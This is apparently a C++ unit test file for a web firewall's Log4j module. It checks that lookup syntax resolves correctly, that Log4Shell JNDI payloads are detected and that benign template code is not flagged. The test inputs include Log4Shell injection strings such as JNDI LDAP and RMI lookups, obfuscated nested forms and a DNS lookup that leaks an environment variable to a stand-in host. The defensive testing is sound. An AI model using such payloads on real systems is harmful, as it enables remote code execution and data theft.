// The resolver evaluates Log4j lookups; every payload family of the research file is detected and
// code that merely looks like a lookup is not.
#include "waf/log4j.h"

#include <gtest/gtest.h>

#include "unit/waf/corpus.h"
#include "waf/normalize.h"

namespace parapet::waf::log4j {
namespace {

std::string decoded(std::string_view s) {
  std::string out, scratch;
  normalize(s, kNormal, false, out, scratch);
  return out;
}

TEST(WafLog4j, ResolvesLookupsLikeLog4j) {
  EXPECT_EQ(resolve("${lower:JNDI}"), "jndi");
  EXPECT_EQ(resolve("${upper:jndi}"), "JNDI");
  EXPECT_EQ(resolve("${::-j}"), "j");
  EXPECT_EQ(resolve("${env:NOPE:-x}"), "x");
  EXPECT_EQ(resolve("${junk:key:-default}"), "default");
  EXPECT_EQ(resolve("${date:'j'}"), "j");
  EXPECT_EQ(resolve("${date:'it''s'}"), "it's");
  EXPECT_EQ(resolve("${${lower:J}${upper:n}di}"), "${${lower:J}${upper:n}di}");  // unknown: kept
  EXPECT_EQ(resolve("${lower:${upper:\xC4\xB1}}"), "i");  // dotless ı upper-cases to I
  EXPECT_EQ(resolve("$${lower:X}"), "${lower:X}");        // the escape
  EXPECT_EQ(resolve("${::-$${lower:X}}"), "x");           // ...substituted again as a value
  EXPECT_EQ(resolve("${unterminated"), "${unterminated");
  EXPECT_EQ(resolve("a ${x} b"), "a ${x} b");
  EXPECT_EQ(resolve("${HOME:-/root}"), "/root");
}

TEST(WafLog4j, DetectsEveryPayloadOfTheCorpus) {
  auto lines = testing::corpus_lines("log4shell.txt");
  ASSERT_GE(lines.size(), 45u);
  for (const auto& line : lines) {
    Result r = scan(decoded(line));
    EXPECT_NE(r.finding, Finding::kNone) << line;
  }
}

TEST(WafLog4j, FindingKinds) {
  EXPECT_EQ(scan("${jndi:ldap://x/a}").finding, Finding::kJndi);
  EXPECT_EQ(scan("${${lower:j}ndi:rmi://x/a}").finding, Finding::kJndi);
  EXPECT_EQ(scan("${${::-${::-$${::-j}}}}").finding, Finding::kObfuscated);  // CVE-2021-45105
  Result r = scan("hello ${jndi:dns://${env:USER}.x}");
  EXPECT_EQ(r.offset, 6u);
  EXPECT_EQ(scan("${jndi:java:comp/env/jdbc}").finding, Finding::kNone);  // not a remote protocol
}

TEST(WafLog4j, CodeInPromptsIsNotFlagged) {
  for (std::string_view s : {
           "${HOME:-/root}",
           "${VAR:-${OTHER:-fallback}}",
           "${var:=${default:-x}}",
           "const s = `Hello ${user.name}, ${count} new`;",
           "name = \"${var.project}-${var.env}\"",
           "${lookup(var.amis, \"${var.region}\")}",
           "server.port=${PORT:8080} and ${server.port:${PORT:8080}}",
           "{{ .Values.image.tag | default .Chart.AppVersion }}",
           "${!arr[@]} ${#name} ${arr[${i}]} ${f%.txt}.md ${PATH//:/ }",
           "greet() { echo hi; }",
           "${sys:user.home} ${env:LOG_DIR:-/var/log}",
           "$${VAR} and $${{ secrets.TOKEN }}",
           "${{ github.sha }}",
           "println(\"Total: ${items.sumOf { it.price }}\")",
       }) {
    EXPECT_EQ(scan(s).finding, Finding::kNone) << s;
  }
}

TEST(WafLog4j, BenignCorpusIsNotFlagged) {
  for (const auto& line : testing::corpus_lines("benign-prompts.txt")) {
    EXPECT_EQ(scan(decoded(line)).finding, Finding::kNone) << line;
  }
}

TEST(WafLog4j, WorkIsBounded) {
  // Deep nesting, long junk, repeated escapes: each finishes fast and nested ones are flagged.
  std::string deep;
  for (int i = 0; i < 5000; ++i) deep += "${::-";
  deep += "j";
  for (int i = 0; i < 5000; ++i) deep += "}";
  EXPECT_EQ(scan(deep).finding, Finding::kObfuscated);
  std::string esc;
  for (int i = 0; i < 2000; ++i) esc += "${::-$$";
  esc += "{x}";
  for (int i = 0; i < 2000; ++i) esc += "}";
  (void)scan(esc);
  std::string open(100000, '$');
  for (size_t i = 1; i < open.size(); i += 2) open[i] = '{';
  EXPECT_EQ(scan(open).finding, Finding::kNone);  // unterminated everywhere
  EXPECT_LE(resolve(deep, 100).size(), 100u);
}

}  // namespace
}  // namespace parapet::waf::log4j
